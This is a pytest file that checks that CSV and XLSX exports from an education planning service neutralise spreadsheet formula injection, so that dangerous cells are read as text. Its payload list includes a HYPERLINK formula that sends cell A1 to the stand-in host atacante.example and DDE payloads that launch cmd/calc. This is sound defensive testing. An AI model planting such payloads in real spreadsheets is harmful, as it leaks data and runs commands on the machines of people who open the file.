"""Spreadsheet formula injection: whatever text reaches an export (a code, a name, a free text), a
spreadsheet opening the CSV or XLSX reads it as text, never as a formula; numbers stay numbers.

Each file is read back with a second reader (the ``csv`` module, openpyxl) as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from services.agenda.config import AgendaSettings
from services.agenda.main import create_app as agenda_app
from services.evaluacion import exportar
from services.evaluacion.config import EvaluacionSettings
from services.evaluacion.main import create_app as evaluacion_app
from shared.hojas import Columna, Portada, Tabla, celda
from tests.conftest import serving
from tests.support.evaluacion import Bombeo, plan
from tests.support.world import asignar

SQLITE = pytest.mark.parametrize("store_kind", ["sqlite"], indirect=True)  # the files, not the store, are tested

# OWASP's starting characters: =, +, -, @, tab and carriage return
PELIGROSOS = ['=HYPERLINK("http://atacante.example/?d="&A1;"clic")', "+1+cmd|' /C calc'!A0", "-2+3",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
UGEL = '=HYPERLINK("http://atacante.example")'  # a territory code as a padrón could carry it


def no_es_formula(texto: str, original: str) -> None:
    """A text cell that a spreadsheet shows as the original text, with the apostrophe that marks it as text."""
    assert not texto.startswith(("=", "+", "-", "@", "\t", "\r")), repr(texto)
    assert texto == "'" + original, (texto, original)


def leer_csv(texto: str) -> list[list[str]]:
    cuerpo = texto.removeprefix("\ufeff")
    lineas = [linea for linea in cuerpo.split("\n") if not linea.startswith("# ")]
    return list(csv.reader(io.StringIO("\n".join(lineas), newline=""), delimiter=";"))


def test_una_celda_peligrosa_se_escribe_como_texto_y_los_numeros_quedan_numeros():
    # Given rows holding each starting character of a formula, and numbers (negatives included)
    filas = [{"texto": t, "numero": -5, "decimal": 3.5, "logico": True} for t in PELIGROSOS]
    tabla_ = Tabla("filas", [Columna("texto", "Texto"), Columna("numero", "Número", tipo="numero"),
                             Columna("decimal", "Decimal", tipo="numero"), Columna("logico", "Lógico")], filas)
    portada = Portada("=1+1", date(2021, 12, 31), "@autor", datetime(2022, 1, 1), "-nota")
    # When they are exported to XLSX and CSV
    libro = load_workbook(io.BytesIO(exportar.xlsx_de(portada, [tabla_])))
    texto_csv = exportar.csv_de(tabla_)
    tabla = leer_csv(texto_csv)
    # Then openpyxl reads every text as a string, not a formula, and the numbers as numbers
    celdas = list(libro["filas"].iter_rows(min_row=2))
    assert len(celdas) == len(PELIGROSOS)
    for fila, original in zip(celdas, PELIGROSOS, strict=True):
        texto, numero, decimal, logico = fila
        assert texto.data_type == "s", (texto.value, texto.data_type)
        no_es_formula(texto.value, original.replace("\r", "\n"))  # XML keeps a carriage return as a line feed
        assert (numero.data_type, numero.value) == ("n", -5)
        assert (decimal.data_type, decimal.value) == ("n", 3.5)
        assert logico.value == "Sí"
    # and so is the cover's text
    textos = {c.value for fila in libro["portada"].iter_rows() for c in fila if c.data_type == "s"}
    assert {"'=1+1", "'@autor", "'-nota"} <= textos, textos
    # and the csv module reads the same texts, one row each (a carriage return stays inside its quoted cell),
    # with the numbers bare as they were written
    assert len(tabla) == len(PELIGROSOS) + 1
    assert tabla[0] == ["Texto", "Número", "Decimal", "Lógico"]
    assert texto_csv.split("\n")[1].endswith(';-5;3.5;"Sí"')
    for fila, original in zip(tabla[1:], PELIGROSOS, strict=True):
        no_es_formula(fila[0], original)
        assert fila[1:] == ["-5", "3.5", "Sí"]
    # and a harmless text is left as it is
    assert celda("UGEL-EL-COLLAO") == "UGEL-EL-COLLAO" and celda(-1) == -1 and celda(None) is None


@SQLITE
async def test_los_csv_de_agenda_no_llevan_formulas(make_settings):
    # Given a plan whose UGEL code is a formula (as a padrón row could have carried it)
    app = agenda_app(make_settings(AgendaSettings))
    docente = str(uuid.uuid4())
    asignar(app.state.agenda, docente, ugel=UGEL)
    async with serving(app) as http:
        # When the plans and the compliance are exported
        planes = await http.get("/v1/planes.csv", params={"anio": 2021})
        cumplimiento = await http.get("/v1/cumplimiento.csv", params={"anio": 2021, "nivel": "docente",
                                                                       "fecha": "2021-12-31"})
    # Then the code is there as text, and the numbers as numbers
    for respuesta in (planes, cumplimiento):
        assert respuesta.status_code == 200, respuesta.text
        tabla = leer_csv(respuesta.content.decode("utf-8"))
        columna = tabla[0].index("UGEL")
        assert len(tabla) == 2
        no_es_formula(tabla[1][columna], UGEL)
    tabla = leer_csv(planes.content.decode("utf-8"))
    assert tabla[1][tabla[0].index("Año")] == "2021" and int(tabla[1][tabla[0].index("Visitas planificadas (n.º)")]) > 0


@SQLITE
async def test_los_reportes_de_evaluacion_en_csv_y_xlsx_no_llevan_formulas(make_settings):
    # Given a docente's plan in a UGEL whose code is a formula
    app = evaluacion_app(make_settings(EvaluacionSettings))
    Bombeo(app.state.evaluacion, app.state.proyecciones).recibir(
        plan(str(uuid.uuid4()), str(uuid.uuid4()), 2021, ugel=UGEL), id_="agenda:plan-formula")
    async with serving(app) as http:
        # When the follow-up report is exported
        como_csv = await http.get("/v1/seguimiento", params={"anio": 2021, "formato": "csv"})
        como_xlsx = await http.get("/v1/seguimiento", params={"anio": 2021, "formato": "xlsx"})
    assert como_csv.status_code == como_xlsx.status_code == 200, como_csv.text
    # Then the cell holding the code is text in both
    textos = [c for fila in leer_csv(como_csv.content.decode("utf-8")) for c in fila if "atacante" in c]
    assert textos, "el reporte no llevó la UGEL"
    for texto in textos:
        no_es_formula(texto, UGEL)
    libro = load_workbook(io.BytesIO(como_xlsx.content))
    celdas = [c for hoja in libro for fila in hoja.iter_rows() for c in fila if "atacante" in str(c.value)]
    assert celdas, "el libro no llevó la UGEL"
    for c in celdas:
        assert c.data_type == "s", (c.coordinate, c.value)
        no_es_formula(c.value, UGEL)
